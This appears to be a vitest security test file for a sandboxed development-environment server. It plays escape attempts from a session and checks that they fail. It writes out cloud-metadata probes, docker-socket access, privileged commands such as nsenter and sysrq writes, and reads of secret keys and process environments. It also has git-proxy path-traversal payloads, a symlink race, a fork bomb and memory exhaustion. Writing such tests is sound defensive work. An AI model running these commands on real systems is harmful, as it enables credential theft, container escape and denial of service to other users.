/** Code in a session against the machine that it runs on, and against its neighbours. */
import { readFile } from 'node:fs/promises';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll } from 'vitest';
import { settled } from '../support/craftastic.ts';
import { type Attack, playAll } from './support/attack.ts';
import { BUILD_DISK_MB, buildAttacks } from './support/build-attacks.ts';
import { type CanaryServer, startCanaryServer } from './support/canary-server.ts';
import { type Ground, openGround, type Target } from './support/ground.ts';

const SECRET = 'what only the neighbour has';

let ground: Ground;
let attacker: Target;
let neighbour: Target;
let hosted: Target;
let builder: Target;
let canary: CanaryServer;

beforeAll(async () => {
  ground = await openGround(() => ({ CRAFTASTIC_BUILD_DISK_MB: String(BUILD_DISK_MB) }));
  canary = await startCanaryServer('0.0.0.0');
  attacker = await ground.target();
  neighbour = await ground.target({ 'README.md': `${SECRET}\n` });
  hosted = await ground.hostedTarget();
  builder = await ground.target({
    '.devcontainer/devcontainer.json': '{ "build": { "dockerfile": "Dockerfile", "context": ".." } }',
    '.devcontainer/Dockerfile': '\n',
  });
  await builder.inSession(`ln -s ${ground.craftastic.data}/secret.key link && git add link`);
  await ground.client.environments.update({ id: builder.environmentId, useDevcontainer: true });
  await neighbour.inSession('cd /workspace && (python3 -m http.server 8000 --bind 0.0.0.0 > /dev/null 2>&1 &)');
}, 240_000);
afterAll(async () => {
  await canary?.[Symbol.asyncDispose]();
  await ground?.[Symbol.asyncDispose]();
}, 120_000);

const gatewayOf = `python3 -c '
import socket, struct
for line in open("/proc/net/route").read().splitlines()[1:]:
    fields = line.split()
    if fields[1] == "00000000": print(socket.inet_ntoa(struct.pack("<L", int(fields[2], 16))))'`;

const addresses = Object.values(networkInterfaces())
  .flatMap((list) => list ?? [])
  .filter(({ family, internal }) => family === 'IPv4' && !internal)
  .map(({ address }) => address);

const curl = (url: string) => `curl -sS -m 5 --noproxy '*' "${url}" 2>&1`;

/** What a port of this machine says to code in the session, by every address that it might have there. */
const reach = async (port: number) => {
  for (const address of [
    '127.0.0.1',
    '0.0.0.0',
    'localhost',
    'host.docker.internal',
    `$(${gatewayOf})`,
    ...addresses,
  ]) {
    await attacker.inSession(curl(`http://${address}:${port}/`));
  }
  return canary.take();
};

const portOfDatabase = async () => {
  const lines = (await readFile(join(ground.craftastic.data, 'postgres/postmaster.pid'), 'utf8')).split('\n');
  return Number(lines[3]);
};

/** Won where any of these addresses accepts. */
const connects = async (port: number) => {
  for (const address of ['127.0.0.1', `$(${gatewayOf})`, ...addresses]) {
    const { code, output } = await attacker.inSession(
      `python3 -c 'import socket, sys; socket.create_connection((sys.argv[1], ${port}), 3); print("connected")' "${address}"`,
    );
    if (code === 0) return `${address}:${port} ${output}`;
  }
  return null;
};

const addressOf = async (target: Target) => (await target.inSession(`hostname -i`)).output.trim().split(/\s+/)[0] ?? '';

const network: Attack<Ground>[] = [
  {
    name: 'a service on all addresses of the machine',
    wins: 'whatever the machine serves to itself',
    play: () => reach(canary.port),
    control: async () => {
      await fetch(`http://127.0.0.1:${canary.port}/`);
      return canary.take();
    },
  },
  { name: 'the server’s own port', wins: 'the API', play: () => connects(ground.craftastic.port) },
  { name: 'the port of the database', wins: 'the database', play: async () => connects(await portOfDatabase()) },
  ...['169.254.169.254', '169.254.170.2', '100.100.100.200', '192.168.0.1', '10.0.0.1', '[fd00:ec2::254]'].map(
    (address) => ({
      name: `the metadata or neighbour at ${address}`,
      wins: 'the machine’s cloud credentials',
      play: async () => {
        const { code, output } = await attacker.inSession(curl(`http://${address}/latest/meta-data/`));
        // 7 is refused at once, by the rules; 28 would be an address that merely nobody has here.
        return code === 7 ? null : `${code} ${output}`;
      },
    }),
  ),
  {
    name: 'a dev server of another environment',
    wins: 'the neighbour’s files',
    play: async () => {
      const { output } = await attacker.inSession(curl(`http://${await addressOf(neighbour)}:8000/README.md`));
      return output.includes(SECRET) ? output : null;
    },
    control: async () => {
      const { output } = await neighbour.inSession(curl(`http://${await addressOf(neighbour)}:8000/README.md`));
      return output.includes(SECRET) ? output : null;
    },
  },
  {
    name: 'the engine’s socket',
    wins: 'the machine',
    play: async () => {
      const { output } = await attacker.inSession(
        'for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do curl -sS -m 3 --unix-socket $s http://x/info; done 2>&1',
      );
      return output.includes('ServerVersion') ? output.slice(0, 200) : null;
    },
  },
];

const PRIVILEGED = [
  'mount -t tmpfs x /mnt',
  'mount --bind / /mnt',
  'unshare -Ur true',
  'unshare -m true',
  'mknod /tmp/disk b 8 0',
  'nsenter -t 1 -m true',
  'chroot / true',
  'sh -c "echo b > /proc/sysrq-trigger"',
  'sh -c "echo x > /proc/sys/kernel/core_pattern"',
  'sh -c "echo x > /sys/kernel/uevent_helper"',
  'sh -c "echo 0 > /proc/sys/kernel/yama/ptrace_scope"',
  'dmesg',
  'sudo -n true',
  'su -c true',
  'python3 -c "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"',
  'python3 -c "import os; os.setuid(0)"',
  'sh -c "echo x >> /opt/craftastic/supervisor/main.mjs"',
  'sh -c "echo x >> /opt/craftastic/node"',
];

const outward: Attack<Ground>[] = [
  ...PRIVILEGED.map((command) => ({
    name: command,
    wins: 'more than a user’s rights in the container, or the machine',
    play: async () => {
      const { code, output } = await attacker.inSession(`${command} 2>&1`);
      return code === 0 ? `it worked: ${output.slice(0, 200)}` : null;
    },
  })),
  {
    name: 'the folders of the server and of other environments, by their paths',
    wins: 'keys, the database, the neighbour’s work',
    play: async () => {
      const { data } = ground.craftastic;
      const { output } = await attacker.inSession(
        `cat ${data}/secret.key ${data}/access-token ${data}/postgres/craftastic.password ${neighbour.worktree}/README.md ${attacker.root}/worktrees/*/../../gitx.git/HEAD 2>/dev/null; find ${data} -mindepth 1 -maxdepth 3 -not -path '*/repos' -not -path '*${attacker.environmentId}*' 2>/dev/null; true`,
      );
      return output.trim() === '' ? null : output;
    },
  },
  {
    name: 'the secrets of the server in its own environment',
    wins: 'the server’s token, the database’s password, the token of the git host',
    play: async () => {
      const { output } = await attacker.inSession(
        'cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr "\\0" "\\n"; grep -rs tok_ /run/craftastic ~ /tmp /workspace; true',
      );
      const secrets = [ground.craftastic.token, 'tok_9Vx3kQm7TzB2wLpR', 'postgres://'];
      return secrets.find((secret) => output.includes(secret)) ?? null;
    },
  },
];

/** Git's way out of a sandbox, asked by hand for what is not this environment's. */
const throughProxy = async (path: string) =>
  attacker.inSession(`curl -sS -m 10 --path-as-is --unix-socket /run/craftastic/api.sock 'http://x${path}' 2>&1`);

const refs = 'info/refs?service=git-upload-pack';
const proxied = (): string[] => {
  const { host } = new URL(ground.remote.origin);
  const other = new URL(neighbour.url).pathname;
  const own = new URL(attacker.url).pathname;
  return [
    `/http/${host}${other}/${refs}`,
    `/http/${host}${own}/..${other}/${refs}`,
    `/http/${host}${own}/%2e%2e${other}/${refs}`,
    `/http/${host}${own}/..%2f${other.slice(1)}/${refs}`,
    `/http/${host}//${other}/${refs}`,
    `/http/${host}${own}/../..${other}/${refs}`,
    `/http/${host}${own.replace('.git', '')}/.${other}/${refs}`,
    `/http/${host}${own}/info/lfs/../../..${other}/${refs}`,
    `/http/${host}${own}/info/lfs/%2e%2e/%2e%2e/%2e%2e${other}/${refs}`,
    `/http/${host}${own}\\..${other}/${refs}`,
    `/http/x@${host}${other}/${refs}`,
  ];
};

const proxy: Attack<Ground>[] = [
  ...Array.from({ length: 11 }, (_, at) => ({
    name: `another repository of the same host, way ${at + 1}`,
    wins: 'a repository with somebody’s token',
    play: async () => {
      const before = ground.remote.requests.length;
      await throughProxy(proxied()[at] ?? '');
      const other = new URL(neighbour.url).pathname;
      const won = ground.remote.requests.slice(before).find(({ url, user }) => user !== null && url.includes(other));
      return won ? JSON.stringify(won) : null;
    },
  })),
  {
    name: 'another host, with the token',
    wins: 'the token itself',
    play: async () => {
      const own = new URL(attacker.url);
      for (const host of [
        `127.0.0.1:${canary.port}`,
        `${own.host}@127.0.0.1:${canary.port}`,
        `${own.host}#@127.0.0.1:${canary.port}`,
      ]) {
        await throughProxy(`/http/${host}${own.pathname}/${refs}`);
      }
      return canary.take();
    },
  },
  {
    name: 'a repository of another environment on this server',
    wins: 'the neighbour’s commits',
    play: async () => {
      const { host, pathname } = new URL(hosted.url);
      const { output } = await throughProxy(`/http/${host}${pathname}/${refs}`);
      return output.includes('service=git-upload-pack') ? output.slice(0, 200) : null;
    },
    control: async () => {
      const { output } = await hosted.inSession(
        `curl -sS -m 10 --unix-socket /run/craftastic/api.sock 'http://x/http/${new URL(hosted.url).host}${new URL(hosted.url).pathname}/${refs}' 2>&1`,
      );
      return output.includes('service=git-upload-pack') ? output.slice(0, 100) : null;
    },
  },
  {
    name: 'the server’s API, through git’s way out',
    wins: 'calls in the name of the server',
    play: async () => {
      const outputs = [];
      for (const path of [
        '/api/environments',
        `/http/127.0.0.1:${ground.craftastic.port}/api/environments`,
        '/../api/environments',
      ]) {
        outputs.push((await throughProxy(path)).output);
      }
      return outputs.find((output) => output.includes('"slug"')) ?? null;
    },
  },
  {
    name: 'a link in place of its own socket, to the neighbour’s, swapped while the server looks',
    wins: 'the neighbour’s sandbox, by the attacker’s rights',
    play: async () => {
      const socket = (id: string) => join(ground.craftastic.data, 'run', id, 'supervisor.sock');
      // In the container the path leads nowhere; it is the server that would follow it.
      await attacker.inSession(
        `cd /run/craftastic && mv supervisor.sock real.sock && (timeout 8 sh -c 'while :; do ln -sf ${socket(neighbour.sessionId)} supervisor.sock; rm -f supervisor.sock; ln real.sock supervisor.sock; rm -f supervisor.sock; done' > /dev/null 2>&1 &)`,
      );
      let won: string | null = null;
      for (let at = 0; at < 150 && won === null; at++) {
        const path = 'README.md';
        const { sessionId } = attacker;
        const read = await ground.client.files.read({ sessionId, path }).catch(() => null);
        const url = `${ground.craftastic.url}/api/files/download?sessionId=${sessionId}&path=${path}`;
        const raw = await fetch(url, { headers: { authorization: `Bearer ${ground.craftastic.token}` } })
          .then((response) => response.text())
          .catch(() => '');
        if (read?.text.includes(SECRET) || raw.includes(SECRET)) won = `it read “${SECRET}”`;
      }
      await ground.client.sessions.stop({ id: attacker.sessionId });
      await settled(ground.client, attacker.sessionId, ['stopped', 'error']);
      await ground.client.sessions.start({ id: attacker.sessionId });
      await settled(ground.client, attacker.sessionId);
      return won;
    },
  },
];

/** Won where another session no longer answers. */
const neighbourAnswers = async () => {
  const status = await ground.client.git.status({ sessionId: neighbour.sessionId }).catch((error: Error) => error);
  return status instanceof Error ? `the neighbour’s session is gone: ${status.message}` : null;
};

const greed: Attack<Ground>[] = [
  {
    name: 'five thousand processes',
    wins: 'the machine’s processes',
    play: async () => {
      const { output } = await attacker.inSession(
        `python3 -c '
import os, time
made = 0
for _ in range(5000):
    try:
        if os.fork() == 0: time.sleep(20); os._exit(0)
        made += 1
    except OSError: break
print("made", made)'`,
      );
      const count = Number(/made (\d+)/.exec(output)?.[1]);
      return count >= 2048 ? output : neighbourAnswers();
    },
  },
  {
    name: 'six gigabytes of memory',
    wins: 'the machine’s memory, or a program that is gone without a word',
    play: async () => {
      const events = await ground.client.sessions.events({ id: attacker.sessionId });
      await events.next();
      const { code, output } = await attacker.inSession(
        `python3 -c 'x = bytes([1]) * (6 * 2**30); print("had it")' 2>&1`,
      );
      // Whoever has the session open is told why it was ended.
      for await (const event of events) if (event.type === 'out-of-memory') break;
      return code === 0 || output.includes('had it') ? output : neighbourAnswers();
    },
  },
];

playAll('the network from a session', () => ground, network);
playAll('out of the container', () => ground, outward);
playAll('git’s way out', () => ground, proxy);
playAll('more than its share', () => ground, greed);
playAll(
  'the build of an image',
  () => ground,
  buildAttacks(() => ({ builder, canary })),
);
